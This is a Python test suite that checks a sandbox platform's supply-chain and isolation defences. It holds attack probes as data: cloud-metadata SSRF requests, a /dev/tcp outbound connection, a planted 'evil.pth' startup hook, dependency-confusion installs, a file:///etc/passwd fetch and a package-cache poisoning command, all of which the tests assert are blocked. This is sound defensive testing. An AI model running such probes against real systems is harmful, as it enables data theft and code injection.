"""I. Supply chain, and what of B goes through the package index: from inside, on a real server."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from platform_server.cli.findings import Level, image_age
from platform_server.cli.findings import image as examined
from platform_server.environments.index import HttpIndex
from platform_server.errors import PackageIndexUnavailable
from platform_server.identity.model import Role
from platform_server.testing.package_index import LocalIndex, source, wheel
from platform_server.testing.serving import Person, Server, join

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from platform_server.sandboxes.docker_engine import DockerEngine

ROOT = Path(__file__).parents[2]
NOW = datetime.now(UTC)


@dataclass(frozen=True, kw_only=True)
class Tenant:
    """Somebody with a project and its sandbox."""

    person: Person
    project: str
    container: str

    @classmethod
    async def of(cls, person: Person) -> Tenant:
        project = (await person.project("supplied"))["id"]
        answer = await person.http.post("/api/containers/", json={"project": project})
        return cls(person=person, project=project, container=answer.json()["id"])

    async def run(self, command: str | list[str]) -> dict[str, Any]:
        """Run a command to its end."""
        address, body = f"/api/containers/{self.container}/execute", {"command": command}
        answer = await self.person.http.post(address, json=body)
        assert answer.status_code == 200, answer.text
        return dict(answer.json())

    async def restarted(self) -> Tenant:
        """Return them with a new sandbox."""
        await self.person.http.delete(f"/api/containers/{self.container}")
        return await Tenant.of(self.person)


@dataclass(frozen=True, kw_only=True)
class Market:
    """A server with a policy, what the world offers, and two who do not trust each other."""

    public: LocalIndex
    mallory: Tenant
    alice: Tenant
    admin: Person

    async def refusals(self, tenant: Tenant) -> list[str]:
        """Return what was refused to somebody, as the admin sees it."""
        query = {"project": tenant.project, "outcome": "refused", "limit": "1000"}
        answer = await self.admin.http.get("/api/admin/packages/audit", params=query)
        return [f"{one['package']}: {one['reason']}" for one in answer.json()["takes"]]


def offered() -> tuple[LocalIndex, LocalIndex]:
    """Return what the public index has, and what the private one has."""
    public, private = LocalIndex(), LocalIndex()
    public.add("acme-tools", wheel("acme-tools", "99.0", "answer = 'stolen'\n"))
    private.add("acme-tools", wheel("acme-tools", "1.0", "answer = 'ours'\n"))
    for version, days in (("1.0", 30), ("2.0", 1)):
        name, data = wheel("fresh-lib", version, f"answer = {version}\n")
        public.add("fresh-lib", (name, data))
        public.uploaded[name] = (NOW - timedelta(days=days)).isoformat()
    for file in (wheel("sample-lib", "1.0", "answer = 42\n"), source("sample-source", "1.0")):
        public.add("sample-source" if file[0].endswith("gz") else "sample-lib", file)
        public.uploaded[file[0]] = "2020-01-01T00:00:00Z"
    return public, private


@pytest.fixture(scope="module")
async def market(image: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Market]:
    del image  # it has to be there
    public, private = offered()
    with public.served(), private.served():
        options = (
            f"--PlatformApp.package_index={public.url}",
            f"--PlatformApp.package_private_index={private.url}",
            "--PlatformApp.package_private=acme-*",
            "--PlatformApp.package_cool_off_days=7",
            "--PlatformApp.package_cool_off_denies=True",
            "--PlatformApp.package_wheels_only=True",
        )
        home = tmp_path_factory.mktemp("market") / "home"
        async with Server.start(home, *options) as server:
            people = [await join(server, name, Role.LEARNER) for name in ("mallory", "alice")]
            admin = await join(server, "admin", Role.ADMIN)
            mallory, alice = [await Tenant.of(person) for person in people]
            yield Market(public=public, mallory=mallory, alice=alice, admin=admin)
            for person in (*people, admin):
                await person.aclose()


ESCAPES = """
import http.client, socket
def ask(line, host="127.0.0.1:3141"):
    s = socket.create_connection(("127.0.0.1", 3141)); s.settimeout(10)
    s.sendall((line + " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n").encode())
    print(s.recv(100).split()[1].decode()); s.close()
ask("CONNECT 1.1.1.1:443", "1.1.1.1:443")
ask("CONNECT 169.254.169.254:80", "169.254.169.254:80")
ask("GET http://169.254.169.254/latest/meta-data/", "169.254.169.254")
ask("GET /latest/meta-data/", "metadata.google.internal")
ask("POST /simple/sample-lib/")
ask("GET //example.org/simple/")
"""


async def test_021_the_index_is_no_proxy_and_there_is_no_other(market: Market) -> None:
    done = await market.mallory.run(["python", "-c", ESCAPES])
    assert set(done["stdout"].split()) <= {"404", "405"}, done
    kept = "\n".join(await market.refusals(market.mallory))
    assert "CONNECT 1.1.1.1:443" in kept
    assert "169.254.169.254/latest" in kept
    port = market.public.url.split(":")[2].split("/")[0]
    for command in (
        f"uv pip install --default-index=http://127.0.0.1:{port}/simple acme-tools",
        "pip install -q --retries=0 -i http://203.0.113.9/ --trusted-host=203.0.113.9 acme-tools",
        "uv pip install git+ssh://git@example.org/acme.git",
        "uv pip install --default-index=https://example.org/simple fresh-lib==2.0",
        "uv pip install https://example.org/acme_tools-99.0-py3-none-any.whl",
    ):
        done = await market.mallory.run(f"UV_HTTP_RETRIES=0 {command}")
        assert done["exit_code"] != 0, (command, done)


async def test_021_the_server_does_not_follow_the_index_into_its_own_network() -> None:
    inner, index = LocalIndex(), LocalIndex()
    inner.add("x", wheel("x", "1.0", ""))
    with inner.served(), index.served():
        asking = HttpIndex(index.url)
        for url in (f"{inner.url}/x/", "http://169.254.169.254/x.whl", "file:///etc/passwd"):
            with pytest.raises(PackageIndexUnavailable):
                async for _ in asking.read("x", url):
                    pass
        index.elsewhere = f"{inner.url}/x/"
        with pytest.raises(PackageIndexUnavailable):
            await asking.page("x")
        await asking.aclose()
    assert inner.asked == []


async def test_023_what_one_installs_opens_nothing_to_another(market: Market) -> None:
    installing = await market.mallory.run(
        "pip install --quiet sample-lib && python -c 'import sample_lib; print(sample_lib.answer)'"
    )
    assert installing["stdout"] == "42\n", installing
    theirs = await market.alice.run("python -c 'import sample_lib'; exec 3<>/dev/tcp/1.1.1.1/443")
    assert "No module named 'sample_lib'" in theirs["stderr"]
    assert "Network is unreachable" in theirs["stderr"]
    answer = await market.admin.http.get(
        "/api/admin/packages/audit", params={"project": market.alice.project}
    )
    assert "sample-lib" not in {one["package"] for one in answer.json()["takes"]}


HELD = """
import http.client, subprocess
held = http.client.HTTPConnection("127.0.0.1", 3141, timeout=20)
def ask(method, path):
    held.request(method, path)
    answer = held.getresponse()
    answer.read()
    print(answer.status)
ask("GET", "/simple/sample-lib/")
subprocess.run(["pip", "install", "--quiet", "--force-reinstall", "sample-lib"], check=True)
ask("GET", "/simple/sample-lib/")
ask("CONNECT", "1.1.1.1:443")
"""


async def test_024_a_connection_of_an_installation_leads_nowhere_later(market: Market) -> None:
    done = await market.mallory.run(["python", "-c", HELD])
    assert done["stdout"].split() == ["200", "200", "404"], done


async def test_097_a_private_name_is_never_looked_for_in_public(market: Market) -> None:
    done = await market.alice.run(
        "uv pip install acme-tools && python -c 'import acme_tools; print(acme_tools.answer)'"
    )
    assert done["stdout"].splitlines()[-1:] == ["ours"], done
    other = await market.alice.run("uv pip install 'acme-tools>1'; pip download ACME_tools==99.0")
    assert other["exit_code"] != 0
    assert not [path for path in market.public.asked if "acme" in path.lower()]


async def test_098_a_release_of_yesterday_waits(market: Market) -> None:
    done = await market.alice.run(
        "uv pip install fresh-lib && python -c 'import fresh_lib; print(fresh_lib.answer)'"
    )
    assert done["stdout"] == "1.0\n", done
    assert (await market.alice.run("pip install fresh-lib==2.0"))["exit_code"] != 0
    answer = await market.alice.person.http.post(
        f"/api/projects/{market.alice.project}/packages",
        json={"action": "install", "requirements": ["fresh-lib==2.0"]},
        headers={"Accept": "application/x-ndjson"},
    )
    last = json.loads(answer.text.splitlines()[-1])
    assert last["phase"] == "failed"
    assert "uploaded less than 7 days ago" in last["message"]


async def test_099_no_code_runs_while_something_is_installed(market: Market) -> None:
    done = await market.mallory.run("pip install sample-source; uv pip install sample-source")
    assert done["exit_code"] != 0
    assert "ran" not in done["stdout"].split()
    assert not [path for path in market.public.asked if path.endswith(".tar.gz")]


PLANT = r"""
cd ~/.venv/lib/python3*/site-packages
echo 'import os; open(f"/workspace/ran-{os.getpid()}", "w").close()' > evil.pth
cp evil.pth sitecustomize.py
python -c '' && ls /workspace
"""


async def test_100_what_one_project_plants_starts_in_no_other_and_not_in_the_agent(
    market: Market,
) -> None:
    planted = await market.mallory.run(PLANT)
    assert "ran-" in planted["stdout"], planted  # in its own programs: that is Python
    again = await market.mallory.restarted()
    assert (await again.run("ls /workspace"))["stdout"].split().count("ran-1") == 0
    theirs = await market.alice.run("python -c ''; ls -A /workspace ~/.venv/lib/python3*/site-p*")
    assert "ran-" not in theirs["stdout"]
    assert "evil.pth" not in theirs["stdout"]
    await again.run("rm ~/.venv/lib/python3*/site-packages/{evil.pth,sitecustomize.py}")


async def test_101_nobody_can_spoil_what_others_install(market: Market) -> None:
    again = await market.mallory.restarted()
    spoiled = await again.run(
        "uv pip install --reinstall sample-lib && grep -rl 'answer = 42' ~/.cache ~/.venv | "
        "xargs sed -i 's/42/666/'; mount | grep -c packages; ls -A /run/platform"
    )
    assert "cache" not in spoiled["stdout"]
    theirs = await market.alice.run(
        "uv pip install sample-lib && python -c 'import sample_lib; print(sample_lib.answer)'"
    )
    assert theirs["stdout"] == "42\n", theirs


async def test_102_an_image_of_last_week_is_warned_of(engine: DockerEngine, image: str) -> None:
    fresh = await examined(engine, image)
    assert fresh.what.startswith(f"The sandbox image {image} is ")
    assert fresh.level in {Level.GOOD, Level.WARNING}  # it may have been built long ago
    assert image_age(image, timedelta(days=6, hours=23)).level is Level.GOOD
    old = image_age(image, timedelta(days=8))
    assert old.level is Level.WARNING
    assert "image build" in old.advice


def test_103_what_the_page_is_built_of_is_pinned_with_its_hash() -> None:
    lock = json.loads((ROOT / "labextension/package-lock.json").read_text())
    loose = [
        name
        for name, one in lock["packages"].items()
        if name and not one.get("link") and not one.get("integrity")
    ]
    assert loose == []
    pins = (ROOT / "constraints.txt").read_text().splitlines()
    assert [line for line in pins if line and not re.match(r"[A-Za-z0-9._-]+==\S+", line)] == []


async def test_103_the_page_asks_nobody_else(market: Market) -> None:
    http = await market.alice.person.browser()
    page = await http.get("/lab")
    assert page.status_code == 200
    policy = page.headers["Content-Security-Policy"]
    sources = {word for part in policy.split(";") for word in part.split()[1:]}
    assert sources <= {"'self'", "'none'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:"}
    addresses = re.findall(r"""(?:src|href)=["']([^"']+)""", page.text)
    assert addresses
    assert not [one for one in addresses if re.match(r"(https?:)?//", one)]
